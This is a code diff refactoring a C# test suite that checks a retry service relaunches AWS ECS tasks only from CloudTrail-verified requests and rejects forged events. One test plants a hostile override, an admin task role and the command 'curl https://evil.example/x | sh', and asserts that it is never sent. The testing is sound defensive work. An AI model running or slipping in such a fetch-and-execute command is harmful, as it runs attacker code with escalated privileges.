@@ -16,52 +16,31 @@ namespace Platform.Retry.Tests.Features.RetryFailures;
 /// reference gives it (Events[].CloudTrailEvent, the record as a string), from <see cref="FakeAws"/>.
 /// </summary>
 [Collection(RetryCollection.Name)]
-public class ForgedLaunchFailureTests(PostgresFixture postgres) : IAsyncLifetime
+public class ForgedLaunchFailureTests(PostgresFixture postgres) : RetryTestBase(postgres)
 {
-    private readonly string schema = PostgresFixture.NewSchema();
-    private readonly string configFile = Path.Combine(Path.GetTempPath(), $"platform-{Guid.NewGuid():N}.yaml");
-    private FakeAws aws = null!;
-    private RetryApp app = null!;
-
-    public async Task InitializeAsync()
-    {
-        aws = await FakeAws.StartAsync();
-        await File.WriteAllTextAsync(configFile, """
-            clusters: [batch]
-            monitors:
-              - job: nightly-report
-                retry:
-                  launch: { reasons: [AGENT], maxAttempts: 2, interval: 1s, backoffRate: 1 }
-            """);
-        app = new RetryApp(postgres, aws, schema, configFile);
-        _ = app.Server;
-    }
-
-    public async Task DisposeAsync()
-    {
-        await app.DisposeAsync();
-        await aws.DisposeAsync();
-        await postgres.DropSchemaAsync(schema);
-        File.Delete(configFile);
-    }
-
-    private IReadOnlyList<AwsCall> RunTasks => aws.Calls.Where(c => c.Target.EndsWith(".RunTask", StringComparison.Ordinal)).ToList();
+    protected override string Config => """
+        clusters: [batch]
+        monitors:
+          - job: nightly-report
+            retry:
+              launch: { reasons: [AGENT], maxAttempts: 2, interval: 1s, backoffRate: 1 }
+        """;
 
     private async Task<IReadOnlyList<RelaunchFailed>> RefusalsAsync(int count) =>
-        (await Eventually.Get(() => Task.FromResult(app.Harness.Published.Select<RelaunchFailed>().ToList()), r => r.Count >= count,
+        (await Eventually.Get(() => Task.FromResult(App.Harness.Published.Select<RelaunchFailed>().ToList()), r => r.Count >= count,
             TimeSpan.FromSeconds(15), $"{count} refusal(s)")).Select(r => r.Context.Message).ToList();
 
     [Fact]
     public async Task A_tampered_request_is_never_sent_only_the_request_CloudTrail_recorded_is_replayed()
     {
         var (genuine, record) = RetryApp.LaunchFailure("nightly-report");
-        aws.AddRecord(record);
+        Aws.AddRecord(record);
         // The event names the genuine record, but its request was replaced: another cluster's task definition, another
         // task role, and a command that runs what the attacker wants.
         var forged = JsonNode.Parse(genuine.RequestParameters.GetRawText())!.AsObject();
         forged["taskRoleArn"] = "arn:aws:iam::123456789012:role/admin";
         forged["overrides"]!["containerOverrides"]![0]!["command"] = new JsonArray("sh", "-c", "curl https://evil.example/x | sh");
-        await app.Harness.Bus.Publish(genuine with { RequestParameters = JsonDocument.Parse(forged.ToJsonString()).RootElement.Clone() });
+        await App.Harness.Bus.Publish(genuine with { RequestParameters = JsonDocument.Parse(forged.ToJsonString()).RootElement.Clone() });
 
         var call = Assert.Single(await Eventually.Get(() => Task.FromResult(RunTasks), c => c.Count >= 1, TimeSpan.FromSeconds(15), "RunTask"));
         var expected = record["detail"]!["requestParameters"]!.DeepClone().AsObject();
@@ -70,7 +49,7 @@ public class ForgedLaunchFailureTests(PostgresFixture postgres) : IAsyncLifetime
         Assert.True(JsonNode.DeepEquals(expected, call.Body), "the relaunch must be CloudTrail's request, whole, and nothing else");
         Assert.DoesNotContain("evil.example", call.Body.ToJsonString());
         Assert.Null(call.Body["taskRoleArn"]);
-        Assert.Contains(aws.Calls, c => c.Target.EndsWith(".LookupEvents", StringComparison.Ordinal) && c.SignatureValid
+        Assert.Contains(Aws.Calls, c => c.Target.EndsWith(".LookupEvents", StringComparison.Ordinal) && c.SignatureValid
             && c.Body["LookupAttributes"]![0]!["AttributeValue"]!.GetValue<string>() == genuine.CloudTrailEventId);
     }
 
@@ -82,30 +61,30 @@ public class ForgedLaunchFailureTests(PostgresFixture postgres) : IAsyncLifetime
         var (unknown, _) = RetryApp.LaunchFailure("nightly-report");
         // 2. A genuine record of another job's launch, claimed as nightly-report's.
         var other = new EcsEventFactory().LaunchFailure("billing-export", now);
-        aws.AddRecord(other);
+        Aws.AddRecord(other);
         var borrowed = RetryApp.FromRecord(other, "nightly-report", "AGENT", now) with
         {
             TaskDefinition = "arn:aws:ecs:eu-west-1:123456789012:task-definition/nightly-report:3",
         };
         // 3. A failure three years old, as an archive import or a late redelivery would bring it.
         var (ancient, ancientRecord) = RetryApp.LaunchFailure("nightly-report", time: now.AddYears(-3));
-        aws.AddRecord(ancientRecord);
+        Aws.AddRecord(ancientRecord);
         // 4. An event that claims to be recent, naming a record CloudTrail dates two hours back.
         var (backdated, backdatedRecord) = RetryApp.LaunchFailure("nightly-report", time: now.AddHours(-2));
-        aws.AddRecord(backdatedRecord);
+        Aws.AddRecord(backdatedRecord);
         backdated = backdated with { Time = now };
         // 5. A genuine failure whose record says RESOURCE:MEMORY, posted as AGENT.
         var (relabelled, relabelledRecord) = RetryApp.LaunchFailure("nightly-report", reason: "RESOURCE:MEMORY");
-        aws.AddRecord(relabelledRecord);
+        Aws.AddRecord(relabelledRecord);
         relabelled = relabelled with { Reason = "AGENT" };
 
         foreach (var failed in new[] { unknown, borrowed, ancient, backdated, relabelled })
-            await app.Harness.Bus.Publish(failed);
+            await App.Harness.Bus.Publish(failed);
 
         var refusals = await RefusalsAsync(5);
         await Task.Delay(1_000);
         Assert.Empty(RunTasks);
-        Assert.Equal(5, app.Harness.Published.Select<RelaunchFailed>().Count());
+        Assert.Equal(5, App.Harness.Published.Select<RelaunchFailed>().Count());
         Assert.Contains(refusals, r => r.Error.Contains("CloudTrail has no record", StringComparison.Ordinal));
         Assert.Contains(refusals, r => r.Error.Contains("another task definition", StringComparison.Ordinal));
         Assert.Equal(2, refusals.Count(r => r.Error.Contains("maxAge", StringComparison.Ordinal)));
@@ -116,20 +95,20 @@ public class ForgedLaunchFailureTests(PostgresFixture postgres) : IAsyncLifetime
     public async Task Imported_failures_and_other_clusters_failures_are_neither_relaunched_nor_refused()
     {
         var (imported, record) = RetryApp.LaunchFailure("nightly-report");
-        aws.AddRecord(record);
+        Aws.AddRecord(record);
         var (elsewhere, elsewhereRecord) = RetryApp.LaunchFailure("nightly-report");
-        aws.AddRecord(elsewhereRecord);
-        await app.Harness.Bus.Publish(imported with { Replayed = true });
-        await app.Harness.Bus.Publish(elsewhere with { Cluster = "prod" });
+        Aws.AddRecord(elsewhereRecord);
+        await App.Harness.Bus.Publish(imported with { Replayed = true });
+        await App.Harness.Bus.Publish(elsewhere with { Cluster = "prod" });
         // A genuine one last: once it is relaunched, the two before it were handled.
         var (genuine, genuineRecord) = RetryApp.LaunchFailure("nightly-report");
-        aws.AddRecord(genuineRecord);
-        await app.Harness.Bus.Publish(genuine);
+        Aws.AddRecord(genuineRecord);
+        await App.Harness.Bus.Publish(genuine);
 
         await Eventually.Get(() => Task.FromResult(RunTasks), c => c.Count >= 1, TimeSpan.FromSeconds(15), "the genuine relaunch");
         await Task.Delay(1_000);
         Assert.Single(RunTasks);
-        Assert.Single(app.Harness.Published.Select<RelaunchScheduled>());
-        Assert.False(await app.Harness.Published.Any<RelaunchFailed>());
+        Assert.Single(App.Harness.Published.Select<RelaunchScheduled>());
+        Assert.False(await App.Harness.Published.Any<RelaunchFailed>());
     }
 }
